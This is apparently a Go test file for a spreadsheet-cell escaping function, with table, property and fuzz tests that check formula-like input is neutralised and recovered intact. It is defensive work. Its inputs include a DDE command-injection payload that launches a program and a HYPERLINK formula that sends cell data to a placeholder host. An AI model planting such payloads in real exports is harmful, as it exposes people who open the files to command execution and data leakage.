package safe_test

import (
	"strings"
	"testing"

	"pgregory.net/rapid"

	"folkmoot/session/exchange/safe"
)

func TestWhatCouldRunIsText(t *testing.T) {
	for _, c := range []struct{ name, in, want string }{
		{"formula", "=1+1", "'=1+1"},
		{"link that sends", `=HYPERLINK("http://x.example/"&A1,"see")`, `'=HYPERLINK("http://x.example/"&A1,"see")`},
		{"old formula", "@SUM(A1)", "'@SUM(A1)"},
		{"plus", "+44 20 7946 0000", "'+44 20 7946 0000"},
		{"dash before an idea", "- ask us first", "'- ask us first"},
		{"command", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"tab", "\t=1", "'\t=1"},
		{"line end", "\r=1", "'\r=1"},
		{"wide", "＝1+1", "'＝1+1"},
		{"already with an apostrophe", "'=1", "''=1"},
		{"sign alone", "-", "'-"},
		{"two signs", "--5", "'--5"},
		{"negative number", "-5", "-5"},
		{"decimals", "+3.25", "+3.25"},
		{"decimal comma", "-0,5", "-0,5"},
		{"exponent is no plain number", "-1e5", "'-1e5"},
		{"words", "ask = listen", "ask = listen"},
		{"apostrophe of its own", "'tis true", "'tis true"},
		{"number with apostrophe", "'-5", "'-5"},
		{"empty", "", ""},
		{"not UTF-8", "=\xff", "'=\xff"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := safe.Cell(c.in); got != c.want {
				t.Errorf("%q became %q, want %q", c.in, got, c.want)
			}
			if got := safe.Plain(safe.Cell(c.in)); got != c.in {
				t.Errorf("%q came back as %q", c.in, got)
			}
		})
	}
}

func TestEveryTextComesBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.StringOf(rapid.RuneFrom([]rune("'=+-@\t\r\n＝0123.,ab \u00e9"))).Draw(t, "text")
		cell := safe.Cell(s)
		if got := safe.Plain(cell); got != s {
			t.Fatalf("%q became %q and came back as %q", s, cell, got)
		}
		if safe.Cell(safe.Plain(cell)) != cell {
			t.Fatalf("%q does not stay %q", s, cell)
		}
		if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "\t") {
			t.Fatalf("%q would run", cell)
		}
	})
}

func FuzzCell(f *testing.F) {
	for _, s := range []string{"", "=1", "'", "''-", "-5", "\xff=", "＋"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got := safe.Plain(safe.Cell(s)); got != s {
			t.Errorf("%q came back as %q", s, got)
		}
	})
}
